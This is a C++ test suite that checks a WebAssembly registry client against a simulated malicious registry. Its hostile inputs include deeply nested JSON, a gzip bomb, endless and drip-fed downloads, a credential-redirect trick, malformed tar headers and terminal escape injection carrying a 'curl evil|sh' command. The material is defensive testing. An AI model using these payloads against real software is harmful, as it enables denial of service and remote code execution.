// The registry client against a malicious registry (review 36): every
// answer it gets is bounded in depth, size and trust, and a refusal is an
// error naming what was refused, never a crash.
#include <gtest/gtest.h>

#include <atomic>

#include "hostile_registry.h"
#include "registry_fixture.h"
#include "wasmlet/registry/artifact.h"
#include "wasmlet/registry/distribution_client.h"
#include "wasmlet/registry/image_store.h"
#include "wasmlet/registry/pull_policy.h"
#include "wasmlet/registry/registry_error.h"

using namespace wasmlet::registry;
using namespace wasmlet::registry::testing;

namespace {

constexpr std::size_t kDeep = 300000;  // the review's 600 KB manifest: a few MB of stack per recursion

ClientOptions no_retries() {
  ClientOptions o;
  o.retry = {1, std::chrono::milliseconds(10)};
  return o;
}

// A CNCF wasm artifact; `extra` is spliced into the manifest's top object as "x".
std::string cncf_manifest(HostileRegistry& registry, const std::string& extra = "1", const std::string& config = R"({"os":"wasip1","architecture":"wasm"})") {
  std::string m = HostileRegistry::image_manifest(registry.blob_descriptor(media_type::kWasmConfigV0, config),
                                                  {registry.blob_descriptor(media_type::kWasmLayer, tiny_module('h'))});
  m.pop_back();
  return m + R"(,"x":)" + extra + "}";
}

// Runs `f`, which must throw E; returns its message.
template <class E, class F>
std::string error_of(F&& f) {
  try {
    f();
  } catch (const E& e) {
    return e.what();
  }
  ADD_FAILURE() << "no error was thrown";
  return {};
}

}  // namespace

// Copying, dumping or destroying a JSON value recurses once per level: a
// manifest, an index entry or an error body nested 300,000 deep overflowed the stack.
TEST(HostileRegistry, DeeplyNestedJsonIsRefusedWithoutRecursing) {
  HostileRegistry registry;
  registry.add_manifest("deep/manifest", "1", cncf_manifest(registry, nested_arrays(kDeep)));
  std::string inner = cncf_manifest(registry);
  registry.add_manifest("deep/index", "inner", inner);
  registry.add_manifest("deep/index", "1",
                        R"({"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":")" +
                            sha256_of(inner) + R"(","size":)" + std::to_string(inner.size()) + R"(,"platform":{"os":"wasip1","x":)" +
                            nested_arrays(kDeep) + "}}]}");
  registry.server.Get("/v2/deep/error/manifests/1", [](const httplib::Request&, httplib::Response& res) {
    res.status = 404;
    res.set_content(R"({"details":)" + nested_arrays(kDeep) + "}", "application/json");
  });
  registry.add_manifest("deep/shallow", "1", cncf_manifest(registry, nested_arrays(60)));
  registry.start();
  TempDir dir;
  ImageStore store(dir.path() / "store");
  DistributionClient client(no_retries());

  for (const char* repository : {"deep/manifest:1", "deep/index:1"}) {
    std::string message = error_of<RegistryError>([&] { pull_image(store, client, Reference::parse(registry.ref(repository))); });
    EXPECT_NE(message.find("manifest 1 of " + registry.ref(repository)), std::string::npos) << message;
    EXPECT_NE(message.find("nests JSON more than 64 levels deep"), std::string::npos) << message;
  }
  std::string message = error_of<NotFoundError>([&] { pull_image(store, client, Reference::parse(registry.ref("deep/error:1"))); });
  EXPECT_NE(message.find("not found"), std::string::npos) << message;
  // Nesting as deep as real JSON ever is still reads.
  EXPECT_TRUE(pull_image(store, client, Reference::parse(registry.ref("deep/shallow:1"))).image);
}

// The same through the CLI: a config nested 1,000,000 deep is pulled (the
// image is runnable) and inspect-image shows the image without it.
TEST(HostileRegistry, InspectImageOfADeeplyNestedConfigDoesNotCrash) {
  if (!fs::exists(WASMLET_BIN)) GTEST_SKIP() << WASMLET_BIN << " is not built";
  HostileRegistry registry;
  registry.add_manifest("deep/config", "1", cncf_manifest(registry, "1", R"({"os":"wasip1","x":)" + nested_arrays(1000000) + "}"));
  registry.start();
  TempDir dir;
  auto wasmlet = [&](const std::string& args, std::string* out) {
    return run("WASMLET_DATA_DIR=" + (dir.path() / "data").string() + " HOME=" + dir.path().string() + " " + WASMLET_BIN + " " + args, out);
  };
  std::string out;
  ASSERT_EQ(wasmlet("pull " + registry.ref("deep/config:1"), &out), 0) << out;
  ASSERT_EQ(wasmlet("inspect-image --format json " + registry.ref("deep/config:1"), &out), 0) << out;
  auto inspect = nlohmann::json::parse(out);
  EXPECT_FALSE(inspect.contains("config")) << out.substr(0, 300);
  EXPECT_EQ(inspect["manifest"]["x"], 1);
}

// A descriptor's size bounds its download, "size": 0 included (it was read
// as "unknown": a blob streamed for ever filled DATA_DIR/oci/tmp at 230 MB/s),
// and a config blob is refused past 8 MiB before it is fetched.
TEST(HostileRegistry, EveryBlobDownloadIsBoundedByItsDescriptor) {
  HostileRegistry registry;
  const std::string never = sha256_of("never");
  std::atomic<std::uint64_t> streamed{0};
  registry.server.Get("/v2/zero/app/blobs/" + never, [&](const httplib::Request&, httplib::Response& res) {
    res.set_chunked_content_provider("application/octet-stream", [&](size_t, httplib::DataSink& sink) {
      static const std::string chunk(64 * 1024, '\0');
      if (streamed >= (64u << 20)) return false;  // ends the test's "for ever"
      streamed += chunk.size();
      return sink.write(chunk.data(), chunk.size());
    });
  });
  nlohmann::json config = registry.blob_descriptor(media_type::kWasmConfigV0, R"({"os":"wasip1"})");
  registry.add_manifest("zero/app", "1",
                        HostileRegistry::image_manifest(config, {{{"mediaType", media_type::kWasmLayer}, {"digest", never}, {"size", 0}}}));
  nlohmann::json big_config = config;
  big_config["size"] = 9u << 20;
  registry.add_manifest("zero/config", "1",
                        HostileRegistry::image_manifest(big_config, {registry.blob_descriptor(media_type::kWasmLayer, tiny_module('z'))}));
  registry.start();
  TempDir dir;
  ImageStore store(dir.path() / "store");
  DistributionClient client(no_retries());

  std::string message = error_of<DigestMismatchError>([&] { pull_image(store, client, Reference::parse(registry.ref("zero/app:1"))); });
  EXPECT_NE(message.find("blob " + never), std::string::npos) << message;
  EXPECT_NE(message.find("longer than the 0 bytes its descriptor says"), std::string::npos) << message;
  EXPECT_LE(streamed, 8u << 20) << "the download went on past the descriptor's size";
  EXPECT_TRUE(fs::is_empty(dir.path() / "store" / "tmp")) << "the partial download is removed";

  message = error_of<RegistryError>([&] { pull_image(store, client, Reference::parse(registry.ref("zero/config:1"))); });
  EXPECT_NE(message.find("the config blob " + config["digest"].get<std::string>() + " is 9437184 bytes, more than the 8388608"),
            std::string::npos)
      << message;
}

// A tar+gzip layer that inflates past 1 GiB is refused once it gets there (a
// 16 MB bomb ended in bad_alloc), and a module layer past 1 GiB is refused
// before it is downloaded: both are read whole into memory.
TEST(HostileRegistry, LayersAreUnpackedOnlyUpTo1GiB) {
  HostileRegistry registry;
  const std::string member = gzip(std::string(64u << 20, '\0'));  // gzip members may follow each other
  std::string bomb;
  for (int i = 0; i < 17; ++i) bomb += member;  // 1088 MiB of zeros from about 1 MB
  nlohmann::json config = registry.blob_descriptor("application/vnd.oci.image.config.v1+json", R"({"os":"wasi","architecture":"wasm"})");
  nlohmann::json layer = registry.blob_descriptor("application/vnd.oci.image.layer.v1.tar+gzip", bomb);
  registry.add_manifest("bomb/app", "1", HostileRegistry::image_manifest(config, {layer}));
  nlohmann::json cncf_config = registry.blob_descriptor(media_type::kWasmConfigV0, R"({"os":"wasip1"})");
  registry.add_manifest("huge/app", "1",
                        HostileRegistry::image_manifest(cncf_config, {{{"mediaType", media_type::kWasmLayer},
                                                                       {"digest", sha256_of("huge")},
                                                                       {"size", (1u << 30) + 1}}}));
  registry.start();
  TempDir dir;
  ImageStore store(dir.path() / "store");
  DistributionClient client(no_retries());

  std::string message = error_of<RegistryError>([&] { pull_image(store, client, Reference::parse(registry.ref("bomb/app:1"))); });
  EXPECT_NE(message.find("the layer inflates to more than 1073741824 bytes"), std::string::npos) << message;
  message = error_of<RegistryError>([&] { pull_image(store, client, Reference::parse(registry.ref("huge/app:1"))); });
  EXPECT_NE(message.find("the layer " + sha256_of("huge") + " holding the module is 1073741825 bytes, more than the 1073741824"),
            std::string::npos)
      << message;
}

// Pushing to a registry that sends the upload elsewhere and lies about the
// manifest's digest: the user's password stays with the registry (it went
// to the upload Location's host), and the lie is an error, not the result.
TEST(HostileRegistry, PushSendsCredentialsToTheRegistryOnlyAndTrustsNoDigestItAnswers) {
  const std::string basic = "Basic YWxpY2U6czNjcmV0";  // alice:s3cret
  HostileRegistry elsewhere;
  std::mutex mutex;
  std::vector<std::string> seen_elsewhere;
  auto upload = [&](const httplib::Request& req, httplib::Response& res) {
    std::lock_guard lock(mutex);
    seen_elsewhere.push_back(req.get_header_value("Authorization"));
    res.status = 201;
  };
  elsewhere.server.Put("/upload", upload);
  elsewhere.start();
  HostileRegistry registry;
  auto authorized = [&](const httplib::Request& req, httplib::Response& res) {
    if (req.get_header_value("Authorization") == basic) return true;
    res.status = 401;
    res.set_header("WWW-Authenticate", R"(Basic realm="test")");
    return false;
  };
  registry.server.Get(R"(/v2/.*/blobs/.*)", [&](const httplib::Request& req, httplib::Response& res) {
    if (authorized(req, res)) res.status = 404;
  });
  registry.server.Post(R"(/v2/.*/blobs/uploads/)", [&](const httplib::Request& req, httplib::Response& res) {
    if (!authorized(req, res)) return;
    res.status = 202;
    res.set_header("Location", fmt::format("http://127.0.0.1:{}/upload", elsewhere.port()));
  });
  std::string pushed_manifest;
  registry.server.Put(R"(/v2/(.*)/manifests/.*)", [&](const httplib::Request& req, httplib::Response& res) {
    if (!authorized(req, res)) return;
    res.status = 201;
    pushed_manifest = req.body;
    if (req.matches[1] == "liar/app") res.set_header("Docker-Content-Digest", sha256_of("something else"));
  });
  registry.start();
  ClientOptions options = no_retries();
  options.credentials = Credentials{"alice", "s3cret", {}};
  DistributionClient client(options);

  std::string digest = push_wasm(client, tiny_module('p'), "app.wasm", Reference::parse(registry.ref("honest/app:1")));
  EXPECT_EQ(digest, sha256_of(pushed_manifest));
  ASSERT_EQ(seen_elsewhere.size(), 2u) << "the layer and the config were uploaded to the Location";
  for (const auto& authorization : seen_elsewhere) EXPECT_EQ(authorization, "") << "credentials went to another host";

  std::string message = error_of<DigestMismatchError>(
      [&] { push_wasm(client, tiny_module('q'), "app.wasm", Reference::parse(registry.ref("liar/app:1"))); });
  EXPECT_NE(message.find("stored the manifest of " + registry.ref("liar/app:1") + " as " + sha256_of("something else")),
            std::string::npos)
      << message;
}

// A pax record length that is not a number ("abc") threw std::invalid_argument
// ("error: stoul"), which no caller expects: the daemon stored the image and
// then could neither prune nor remove it. It is a RegistryError naming the image.
TEST(HostileRegistry, AMalformedPaxHeaderIsARegistryError) {
  HostileRegistry registry;
  std::string tar = make_tar({{"pax", "abc path=app.wasm\n"}, {"app.wasm", tiny_module('x')}});
  tar[156] = 'x';  // the first entry becomes a pax header (the checksum is not checked)
  nlohmann::json layer = registry.blob_descriptor("application/vnd.oci.image.layer.v1.tar+gzip", gzip(tar));
  for (const char* os : {"wasi", "wasip1"}) {  // read during the pull / only when run
    nlohmann::json config =
        registry.blob_descriptor("application/vnd.oci.image.config.v1+json", fmt::format(R"({{"os":"{}","architecture":"wasm"}})", os));
    registry.add_manifest(fmt::format("pax/{}", os), "1", HostileRegistry::image_manifest(config, {layer}));
  }
  registry.start();
  TempDir dir;
  ImageStore store(dir.path() / "store");
  DistributionClient client(no_retries());

  std::string message = error_of<RegistryError>([&] { pull_image(store, client, Reference::parse(registry.ref("pax/wasi:1"))); });
  EXPECT_NE(message.find("malformed pax header in entry \"pax\" (record length \"abc\")"), std::string::npos) << message;
  auto image = pull_image(store, client, Reference::parse(registry.ref("pax/wasip1:1"))).image;
  ASSERT_TRUE(image);
  message = error_of<RegistryError>([&] { store.module_file(*image); });
  EXPECT_NE(message.find(registry.ref("pax/wasip1:1") + ": tar layer has a malformed pax header"), std::string::npos) << message;
}

// A registry's error text reaches the user's terminal: its control
// characters (a title change, a screen clear, colours) arrive escaped.
TEST(HostileRegistry, ARegistrysErrorTextIsEscaped) {
  HostileRegistry registry;
  registry.server.Get("/v2/ansi/app/manifests/1", [](const httplib::Request&, httplib::Response& res) {
    res.status = 404;
    res.set_content(R"({"errors":[{"code":"X\u001b[2J","message":"\u001b]0;pwned\u0007\u001b[31mrun: curl evil|sh\u001b[0m"}]})",
                    "application/json");
  });
  registry.server.Get("/v2/ansi/plain/manifests/1", [](const httplib::Request&, httplib::Response& res) {
    res.status = 500;
    res.set_content("\x1b[2Jnot json\r\n", "text/plain");
  });
  registry.start();
  DistributionClient client(no_retries());
  std::string message = error_of<NotFoundError>([&] { client.get_manifest(Reference::parse(registry.ref("ansi/app:1"))); });
  EXPECT_EQ(message.find('\x1b'), std::string::npos) << message;
  EXPECT_NE(message.find(R"((X\x1b[2J: \x1b]0;pwned\x07\x1b[31mrun: curl evil|sh\x1b[0m))"), std::string::npos) << message;
  message = error_of<RegistryError>([&] { client.get_manifest(Reference::parse(registry.ref("ansi/plain:1"))); });
  EXPECT_NE(message.find(R"(HTTP 500 (\x1b[2Jnot json))"), std::string::npos) << message;
}

// A manifest sent at 2 bytes a second passed libcurl's low-speed check for
// ever, holding the store's writers lock (prune waited): each attempt now
// has a deadline scaled to the most it may carry (here 1 s + 4 MiB at 1 MiB/s),
// and is not retried: a second attempt would hold the lock as long again.
TEST(HostileRegistry, ATransferDripFedByTheRegistryEndsAtItsDeadline) {
  HostileRegistry registry;
  registry.server.Get("/v2/drip/app/manifests/1", [](const httplib::Request&, httplib::Response& res) {
    auto start = std::chrono::steady_clock::now();
    res.set_content_provider(1u << 20, "application/vnd.oci.image.manifest.v1+json", [start](size_t, size_t, httplib::DataSink& sink) {
      if (std::chrono::steady_clock::now() - start > std::chrono::seconds(40)) return false;  // ends the test's "for ever"
      std::this_thread::sleep_for(std::chrono::milliseconds(500));
      return sink.write("  ", 1);
    });
  });
  registry.start();
  ClientOptions options;
  options.retry = {3, std::chrono::milliseconds(10)};
  options.deadline = {std::chrono::seconds(1), 1u << 20};
  DistributionClient client(options);
  auto start = std::chrono::steady_clock::now();
  std::string message = error_of<RegistryError>([&] { client.get_manifest(Reference::parse(registry.ref("drip/app:1"))); });
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(9)) << message;
  EXPECT_NE(message.find("/v2/drip/app/manifests/1: no complete answer within the deadline of 5 s"), std::string::npos) << message;
}
